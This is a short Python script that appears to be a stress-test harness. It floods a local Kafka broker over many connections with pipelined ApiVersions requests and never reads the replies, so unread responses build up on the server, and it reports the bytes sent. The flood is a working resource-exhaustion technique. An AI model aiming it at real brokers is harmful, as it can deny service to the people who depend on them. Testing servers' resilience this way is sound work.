"""A Kafka client that pipelines ApiVersions requests and never reads an answer.

    python3 pipeline-flood.py <port> <connections> <seconds>

Its receive buffers are 4 KiB, so the server's answers pile up on the server's side. Sends
for `seconds` as fast as the server takes the bytes, then prints the bytes sent per connection.
"""
import selectors
import socket
import sys
import time

port, connections, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
# ApiVersions v0, correlation id 1, null client id: 14 bytes with the size prefix
one = bytes([0, 0, 0, 10, 0, 18, 0, 0, 0, 0, 0, 1, 0xFF, 0xFF])
batch = one * 4096
sel = selectors.DefaultSelector()
sent = {}
for _ in range(connections):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", port))
    s.setblocking(False)
    sel.register(s, selectors.EVENT_WRITE)
    sent[s] = 0
deadline = time.time() + seconds
while time.time() < deadline:
    for key, _ in sel.select(timeout=0.2):
        try:
            sent[key.fileobj] += key.fileobj.send(batch)
        except (BlockingIOError, ConnectionError):
            pass
print(" ".join(str(n) for n in sent.values()), flush=True)
